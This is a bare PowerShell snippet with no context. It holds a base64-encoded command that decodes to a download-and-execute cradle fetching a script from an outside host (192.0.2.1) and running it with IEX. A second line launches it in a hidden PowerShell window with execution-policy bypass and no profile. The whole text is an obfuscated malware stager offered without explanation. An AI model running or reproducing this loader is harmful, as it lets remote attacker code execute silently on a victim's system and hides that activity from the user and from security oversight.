$payload = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBwACcAKQA='
Start-Process -FilePath powershell.exe -WindowStyle Hidden -ArgumentList "-NoP -NonI -W Hidden -Exec Bypass -EncodedCommand $payload"
